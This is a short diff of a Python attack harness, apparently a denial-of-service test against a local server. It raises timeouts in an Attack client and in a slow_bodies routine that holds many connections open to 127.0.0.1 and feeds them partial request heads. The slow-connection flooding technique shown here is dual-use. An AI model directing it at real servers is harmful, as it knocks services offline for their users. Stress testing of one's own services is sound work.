@@ -32,7 +32,7 @@ class Attack:
 
     def client(self) -> httpx.Client:
         transport = httpx.HTTPTransport(local_address=ATTACKER)
-        return httpx.Client(base_url=f"http://127.0.0.1:{self.port}", transport=transport, timeout=30, trust_env=False)
+        return httpx.Client(base_url=f"http://127.0.0.1:{self.port}", transport=transport, timeout=60, trust_env=False)
 
     def note(self, answer: httpx.Response) -> None:
         self.sent += 1
@@ -87,7 +87,7 @@ def slow_bodies(attack: Attack, lines: int = 100) -> None:
     try:
         while not attack.stop.is_set():
             while len(held) < lines:
-                held.append(socket.create_connection(("127.0.0.1", attack.port), 5, source_address=(ATTACKER, 0)))
+                held.append(socket.create_connection(("127.0.0.1", attack.port), 60, source_address=(ATTACKER, 0)))
                 held[-1].sendall(heads[len(held) % 2])
                 attack.sent += 1
             for line in list(held):
